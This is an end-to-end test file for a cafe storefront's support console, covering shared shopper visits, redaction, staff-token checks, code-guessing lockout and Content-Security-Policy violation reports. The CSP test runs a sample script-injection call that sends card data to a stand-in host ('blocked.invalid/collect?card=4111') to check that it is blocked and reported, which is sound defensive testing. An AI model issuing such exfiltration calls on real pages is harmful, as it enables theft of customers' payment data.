// Shared visits in the support console (/support), as support staff use them: a guest's declined order is shared
// (redacted on the page, sent to the inbox as the tab sends it), support types the code the shopper reads out and
// the staff token, and the visit opens in the same console as a dropped file: timeline, the shopper's page at an
// event, the why, the diff, #event=N; with what is safe to match a customer by and which fields were redacted. A
// share still growing is followed live; a missing or revoked token is refused; ten wrong codes lock look-ups.
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { INBOX_WORDS } from '../../src/app/features/support/inboxClient';
import { SHARED_VISIT_WORDS } from '../../src/app/features/support/SharedVisits';
import { placeOrderButton, readyToOrder, shots } from './support/checkout';
import { enableDebugHook, pageSessionLog } from './support/debug';
import { sendNext, shareVisit, stopSharing, useInbox } from './support/inbox';
import { DESKTOP, PHONE, screenshot, seriousViolations, useStorefront, type Shopper } from './support/storefront';
import { consoleReady } from './support/console';

/** Wednesday 2 December 2026, 10:00 in New York: the cafe is open. */
const OPEN_AT = '2026-12-02T15:00:00.000Z';
const DRIP = { itemId: 'drip', variationId: 'drip-regular', quantity: 1, modifiers: {}, note: '' };

const storefront = useStorefront('cafe', { resetEach: false });
const inbox = useInbox();

const events = (page: Page) => page.getByRole('listbox', { name: 'Events' });
const selectedRow = (page: Page) => events(page).getByRole('option', { selected: true });
/** How many events the open log holds, as the console counts them (a folded row stands for several). */
const eventsHeld = async (page: Page) => Number(/of (\d+) events/.exec((await page.locator('.support-events > .support-muted').textContent()) ?? '')?.[1]);
const shared = (page: Page) => page.getByRole('region', { name: 'Open a shared visit' });

/** Types the code and the token and presses Open. */
async function openByCode(page: Page, code: string, token: string): Promise<void> {
  await shared(page).getByLabel('Share code').fill(code);
  await shared(page).getByLabel('Staff token').fill(token);
  await shared(page).getByRole('button', { name: 'Open', exact: true }).click();
}

/** A fact of the open visit ('Share code', 'Business', ...). */
const fact = (page: Page, name: string) =>
  page
    .locator('.support-match div')
    .filter({ has: page.getByRole('term').getByText(name, { exact: true }) })
    .getByRole('definition');

/** A guest whose card was declined on /checkout, with the debug hook. */
async function declinedGuest(): Promise<{ shopper: Shopper; total: string }> {
  const shopper = await readyToOrder(storefront, { at: OPEN_AT, lines: [DRIP], card: { number: '4000 0000 0000 0002' } });
  await placeOrderButton(shopper.page).click();
  await shopper.page.locator('.checkout-failure').getByText('The credit card was declined.', { exact: true }).waitFor();
  return { shopper, total: await shopper.page.locator('.checkout-summary .totals-grand').innerText() };
}

/** A shopper on the cafe's home page, open at OPEN_AT. */
async function shopperOnMenu(viewport: { readonly width: number; readonly height: number } = DESKTOP): Promise<Shopper> {
  await storefront.control('clock', { at: OPEN_AT });
  const shopper = await storefront.newShopper(viewport);
  await enableDebugHook(shopper.context);
  await shopper.page.clock.install({ time: new Date(OPEN_AT) });
  await shopper.page.goto(storefront.origin);
  await shopper.page.getByRole('heading', { level: 1 }).first().waitFor();
  return shopper;
}

describe('shared visits in the support console', () => {
  it("opens a shared visit by the code as read aloud: the shopper's page at an event, the why, the diff, what is safe to match and what was redacted", async () => {
    const { shopper, total } = await declinedGuest();
    const share = await shareVisit(storefront.origin, shopper.page);
    const failedSeq = (JSON.parse((await pageSessionLog(shopper.page)).split('\n').find((line) => line.includes('"OrderPlacementFailed"'))!) as { seq: number })
      .seq;
    const { token } = await inbox.staffToken();

    const view = await consoleReady(storefront);
    const { page } = view;
    expect(await seriousViolations(page)).toEqual([]);
    // Read aloud and typed loosely: small letters, a space for the dash.
    await openByCode(page, share.code.toLowerCase().replace('-', ' '), token);
    await events(page).waitFor();
    expect(await eventsHeld(page)).toBe(share.sent);
    await page.getByText(`Shared visit ${share.code}: ${share.sent} events`, { exact: false }).waitFor();

    // What support may match a customer by, and what left the device redacted.
    expect(await fact(page, 'Share code').textContent()).toBe(share.code);
    expect(await fact(page, 'Business').textContent()).toBe('Bluebird Coffee');
    expect(await fact(page, 'Location').textContent()).toBe('Bluebird Coffee - Hudson St');
    expect(await fact(page, 'Order numbers').textContent()).toBe('none placed');
    const redacted = await page.locator('.support-redacted').textContent();
    for (const kind of ['first names', 'last names', 'email addresses', 'phone numbers']) expect(redacted).toContain(kind);
    await page.getByText('Live', { exact: true }).waitFor();

    // The recent shared visits, with this one's outcome at a glance.
    const listed = shared(page).getByRole('button', { name: /Failed to place an order \(GENERIC_DECLINE\)/ });
    await listed.waitFor();
    expect(await listed.textContent()).toContain('last on /checkout');

    // The declined attempt, by its address: the shopper's page as they saw it, names redacted; the why adds up.
    await page.evaluate((seq) => (window.location.hash = `event=${seq}`), failedSeq);
    await expect.poll(() => selectedRow(page).textContent()).toContain(`#${failedSeq}`);
    const frame = page.locator('[data-replay-frame="inline"]');
    await frame.locator('.checkout-failure').getByText('The credit card was declined.', { exact: true }).waitFor();
    await expect.poll(() => frame.locator('.checkout-summary .totals-grand').innerText()).toBe(total);
    await frame.getByText('Shopper1', { exact: false }).first().waitFor();
    expect(await frame.getByText(/\bAda\b/).count()).toBe(0);
    expect(await page.locator('.support-sum').getAttribute('data-adds-up')).toBe('true');
    await page.getByText('GENERIC_DECLINE', { exact: false }).first().waitFor();
    await page.getByRole('heading', { name: 'What this event changed' }).waitFor();
    // Why the order's call failed, beside what the shopper read, and the device they used.
    await page
      .locator('.support-failure')
      .getByText(/Why the call failed: refused \(HTTP 4\d\d\) \[GENERIC_DECLINE\]/)
      .waitFor();
    expect(await page.locator('.support-device').textContent()).toMatch(
      new RegExp(`^Device: Chrome \\d+ on Linux, ${DESKTOP.width}x${DESKTOP.height} at 1x, .+, online\\.$`),
    );
    await screenshot(page, 'support-shared-visit');
    await screenshot(shopper.page, 'support-shared-visit-shopper');
    // The page alone, at the shopper's own size.
    await page.evaluate((seq) => (window.location.hash = `event=${seq}&view=page`), failedSeq);
    await page.locator('[data-replay-frame="page"] .checkout-failure').waitFor();
    await shots(page, 'support-shared-visit-page');
    await page.keyboard.press('Escape');
    await events(page).waitFor();

    // A page load's bookkeeping is one row, which opens on a click: the device is among it.
    const rowsBefore = await events(page).getByRole('option').count();
    expect(rowsBefore).toBeLessThan(share.sent);
    const folded = events(page)
      .getByRole('option', { name: /Page bookkeeping: \d+ events \(.*DeviceSeen/ })
      .first();
    await folded.click();
    await expect.poll(() => events(page).getByRole('option').count()).toBeGreaterThan(rowsBefore);
    await events(page)
      .getByRole('option', { name: /Device: Chrome \d+ on Linux/ })
      .first()
      .waitFor();
    // Play steps from the first event at the shopper's pace, and Pause stops it.
    await page.evaluate(() => (window.location.hash = 'event=1'));
    await expect.poll(() => selectedRow(page).textContent()).toMatch(/^#1\D/);
    await page.getByRole('button', { name: 'Play', exact: true }).click();
    await expect.poll(() => selectedRow(page).textContent(), { timeout: 10_000 }).not.toMatch(/^#1\D/);
    await page.getByRole('button', { name: 'Pause', exact: true }).click();
    await page.getByRole('button', { name: 'Play', exact: true }).waitFor();

    expect(await seriousViolations(page)).toEqual([]);
    // Only the inbox was asked, and neither the code nor the token is in the address or kept beyond the tab.
    expect(view.requests.filter((url) => !url.startsWith(`${storefront.origin}/inbox/`))).toEqual([]);
    expect(page.url()).not.toContain(share.code);
    expect(page.url()).not.toContain(token);
    expect(await page.evaluate(() => JSON.stringify({ ...window.localStorage }))).not.toContain(token);
    expect(view.errors).toEqual([]);
    await view.close();
    await shopper.close();
  }, 180_000);

  it('follows a share as it grows: the next event shows as it is stored, the selection stays put unless at the last, and the stop is said', async () => {
    // A phone shopper: the console shows their page at their width, not the console's.
    const shopper = await shopperOnMenu(PHONE);
    const share = await shareVisit(storefront.origin, shopper.page);
    const { token } = await inbox.staffToken();
    const view = await consoleReady(storefront);
    const { page } = view;
    await openByCode(page, share.code, token);
    await events(page).waitFor();
    await page.getByText('Live', { exact: true }).waitFor();

    // Support looks at the first event: the shopper's next tap arrives, and the selection stays where it was.
    await page.evaluate(() => (window.location.hash = 'event=1'));
    await expect.poll(() => selectedRow(page).textContent()).toContain('#1');
    await shopper.page.getByRole('link', { name: /^Bag/ }).click();
    await shopper.page.getByRole('heading', { name: /Bag/, level: 1 }).waitFor();
    const second = await sendNext(storefront.origin, share, shopper.page);
    await expect.poll(() => eventsHeld(page)).toBe(second);
    expect(await selectedRow(page).textContent()).toContain('#1');
    expect(await page.evaluate(() => window.location.hash)).toBe('#event=1');

    // At the last event, support follows: the next tap is selected and shown as it is stored.
    await events(page).focus();
    await page.keyboard.press('End');
    await expect.poll(() => selectedRow(page).textContent()).toContain(`#${second}`);
    const inline = page.locator('[data-replay-frame="inline"]');
    await inline.getByRole('heading', { name: /Bag/, level: 1 }).waitFor();
    // Laid out at the shopper's 390 px (DeviceSeen) and scaled to fit: the header stacked as on their phone.
    expect(await inline.getAttribute('data-width')).toBe(String(PHONE.width));
    const headerAreas = (locator: typeof inline) => locator.locator('.site-header-bar').evaluate((bar) => getComputedStyle(bar).gridTemplateAreas);
    expect(await headerAreas(inline)).toContain('location location location');
    expect(await headerAreas(shopper.page.locator('body'))).toBe(await headerAreas(inline));
    await shopper.page.getByRole('link', { name: 'Continue Shopping' }).click();
    await expect.poll(() => new URL(shopper.page.url()).pathname).toBe('/');
    const third = await sendNext(storefront.origin, share, shopper.page);
    expect(third).toBeGreaterThan(second);
    await expect.poll(() => selectedRow(page).textContent()).toContain(`#${third}`);
    await expect.poll(() => page.getByRole('heading', { name: /What the shopper saw after/ }).textContent()).toBe(`What the shopper saw after #${third} (/)`);
    expect(await eventsHeld(page)).toBe(third);
    await page.getByText('Live', { exact: true }).waitFor();
    expect(await seriousViolations(page)).toEqual([]);

    // The shopper stops sharing: the console says so, and keeps what it has.
    await stopSharing(storefront.origin, share);
    await page.getByText('The shopper stopped sharing.').waitFor();
    expect(await page.getByText('Live', { exact: true }).count()).toBe(0);
    expect(await eventsHeld(page)).toBe(third);
    expect(view.errors).toEqual([]);
    await view.close();
    await shopper.close();
  }, 180_000);

  it('asks for a staff token before asking the inbox, and says plainly when the inbox refuses a revoked one', async () => {
    const view = await consoleReady(storefront);
    const { page } = view;
    // Nothing typed: the form says what it needs only once Open is pressed, and asks the inbox nothing.
    expect(await page.getByText(SHARED_VISIT_WORDS.noToken).count()).toBe(0);
    await shared(page).getByRole('button', { name: 'Open', exact: true }).click();
    await page.getByText(SHARED_VISIT_WORDS.noCode).waitFor();
    await page.getByText(SHARED_VISIT_WORDS.noToken).waitFor();
    await shared(page).getByLabel('Share code').fill('K7Q4-PD2');
    await page.getByText(SHARED_VISIT_WORDS.badCode).waitFor();
    expect(await shared(page).getByLabel('Share code').getAttribute('aria-invalid')).toBe('true');
    expect(await seriousViolations(page)).toEqual([]);
    expect(view.requests).toEqual([]);

    // A token the operator revoked: the inbox refuses it, and the console says what to do.
    const revoked = await inbox.staffToken('Former colleague');
    await inbox.revoke(revoked.id);
    await openByCode(page, 'K7Q4-PD2M', revoked.token);
    expect(await shared(page).getByRole('alert').textContent()).toBe(INBOX_WORDS.unauthorized);
    await shared(page).getByRole('status').getByText(INBOX_WORDS.unauthorizedList).waitFor();
    expect(await page.getByRole('listbox', { name: 'Events' }).count()).toBe(0);
    await screenshot(page, 'support-shared-visit-refused');
    expect(view.errors.filter((e) => !/status of 401/.test(e))).toEqual([]);
    await view.close();
  });

  // Last: the lock holds for this address, which every test here shares, for fifteen minutes.
  it('locks look-ups by code after ten wrong codes and says for how long; a visit from the recent list still opens', async () => {
    const shopper = await shopperOnMenu();
    const share = await shareVisit(storefront.origin, shopper.page);
    const { token } = await inbox.staffToken('Guessing Gus');
    const view = await consoleReady(storefront);
    const { page } = view;
    const alert = shared(page).getByRole('alert');
    for (let attempt = 1; attempt <= 10; attempt++) {
      const answered = page.waitForResponse((res) => res.url().endsWith('/inbox/shares/lookup'));
      await openByCode(page, attempt < 10 ? `ZZZZ-ZZZ${attempt}` : 'ZZZZ-ZZY0', token);
      expect((await answered).status()).toBe(attempt < 10 ? 404 : 429);
      if (attempt < 10) await expect.poll(() => alert.textContent()).toBe(INBOX_WORDS.noSuchCode);
    }
    await expect.poll(() => alert.textContent()).toBe(INBOX_WORDS.locked('15 minutes'));
    // The right code too, while locked.
    await openByCode(page, share.code, token);
    await expect.poll(() => alert.textContent()).toBe(INBOX_WORDS.locked('15 minutes'));
    expect(await seriousViolations(page)).toEqual([]);

    // Picked from the recent list, by its id, which guessing cannot reach.
    await shared(page).getByRole('button', { name: 'Refresh' }).click();
    await shared(page)
      .getByRole('button', { name: /No order placed/ })
      .first()
      .click();
    await events(page).waitFor();
    expect(await fact(page, 'Share').textContent()).toBe(share.shareId);
    expect(view.errors.filter((e) => !/status of (404|429)/.test(e))).toEqual([]);
    await view.close();
    await shopper.close();
  }, 120_000);
});

describe("the page's policy violations", () => {
  // Chromium driven by Playwright delivers no Reporting API report (none in 90 s, with or without background
  // networking), and sends report-uri's only where a policy has no report-to. So the page's own report, as its
  // ReportingObserver sees it, is sent the way Chromium's reporting service sends it (application/reports+json, to
  // the endpoint the page's Reporting-Endpoints header names), and the inbox must keep it.
  it('reach the inbox at the endpoint the page names, as the browser reports them, kept without the query for staff to read', async () => {
    const shopper = await shopperOnMenu();
    const response = await fetch(storefront.origin);
    const endpoint = /csp="([^"]+)"/.exec(response.headers.get('reporting-endpoints') ?? '')?.[1];
    expect(endpoint).toBe('/inbox/csp-reports');
    expect(response.headers.get('content-security-policy')).toMatch(/report-to csp(;|$)/);
    // A call the policy does not allow (connect-src), as an injected script would make it.
    const sent = await shopper.page.evaluate(async (to) => {
      const seen = new Promise<Report[]>((resolve) => {
        const observer = new ReportingObserver((reports) => resolve(reports), { types: ['csp-violation'], buffered: true });
        observer.observe();
      });
      await fetch('https://blocked.invalid/collect?card=4111').catch(() => undefined);
      const reports = await seen;
      const body = reports.map((report) => ({ type: report.type, url: report.url, age: 0, user_agent: navigator.userAgent, body: report.body }));
      const answer = await fetch(to, { method: 'POST', headers: { 'Content-Type': 'application/reports+json' }, body: JSON.stringify(body) });
      return { status: answer.status, directives: reports.map((report) => (report.body as unknown as { effectiveDirective: string }).effectiveDirective) };
    }, endpoint!);
    expect(sent).toEqual({ status: 204, directives: ['connect-src'] });
    expect(storefront.takePolicyViolations().join('\n')).toMatch(/connect-src/);
    const { token } = await inbox.staffToken();
    const answer = await fetch(`${storefront.origin}/inbox/csp-reports`, { headers: { Authorization: `Bearer ${token}` } });
    const { reports } = (await answer.json()) as { reports: { documentUri: string; blockedUri: string; directive: string }[] };
    expect(reports).toContainEqual(
      expect.objectContaining({ documentUri: `${storefront.origin}/`, blockedUri: 'https://blocked.invalid/collect', directive: 'connect-src' }),
    );
    expect(JSON.stringify(reports)).not.toContain('4111');
    await shopper.close();
  });
});
